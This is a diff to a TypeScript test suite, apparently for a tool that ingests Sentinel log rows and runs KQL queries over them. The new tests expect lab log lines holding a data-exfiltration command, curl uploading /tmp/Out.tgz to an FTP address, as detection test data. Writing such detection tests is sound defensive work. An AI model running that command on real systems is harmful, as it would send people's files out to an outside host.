@@ -18,7 +18,7 @@ const fieldsOf = (stream: string, event: string, index = 0) => {
 }
 
 const JSON_FORMS: Readonly<Record<string, (value: unknown) => boolean>> = {
-  datetime: (value) => typeof value === 'string' && /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(value),
+  datetime: (value) => typeof value === 'string' && /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d{3})?Z$/.test(value),
   long: Number.isSafeInteger,
   int: (value) => Number.isSafeInteger(value) && Math.abs(Number(value)) < 2 ** 31,
   string: (value) => typeof value === 'string',
@@ -93,6 +93,22 @@ describe('rows of Sentinel', () => {
     expect(addresses).toContain('10.20.3.99 10.20.3.17')
   })
 
+  test('of Linux hosts hold the lines of auoms and of Sysmon', () => {
+    const lines = linux.filter(({ stream }) => stream === 'Syslog')
+    expect(lines.map(({ event, fields }) => `${fields['ProcessName']} ${event}`)).toEqual([
+      'auoms AUOMS_EXECVE',
+      'sysmon 1',
+      'sysmon 11',
+      'sysmon 11',
+      'sysmon 3',
+      'sysmon 3',
+      'sysmon 5',
+    ])
+    expect(lines[0]?.fields['SyslogMessage']).toMatch(
+      /^type=AUOMS_EXECVE audit\(\d{10}\.\d{3}:\d+\): SchemaVersion="1" .* exe="\/usr\/bin\/curl" .* cmdline="curl --upload-file \/tmp\/Out\.tgz ftp:\/\/93\.184\.215\.14\/" redactors= containerid=$/,
+    )
+  })
+
   test('are read whole, and queries find what they say', async () => {
     const session = await sessionOver(SENTINEL, 'rows', all)
     const { counts, diagnostics } = session.ingested
@@ -109,6 +125,13 @@ describe('rows of Sentinel', () => {
         NewProcessName: 'C:\\Users\\Public\\Rclone.exe',
       },
     ])
+    const lines = await rowsOf(
+      session,
+      'kql',
+      `Syslog | where ProcessName == "sysmon" and SyslogMessage has "<EventID>1</EventID>"
+      | project HostName, CommandLine = extract('<Data Name="CommandLine">([^<]*)</Data>', 1, SyslogMessage)`,
+    )
+    expect(lines).toEqual([{ HostName: 'lab-02', CommandLine: 'curl --upload-file /tmp/Out.tgz ftp://93.184.215.14/' }])
     const sent = await rowsOf(
       session,
       'kql',
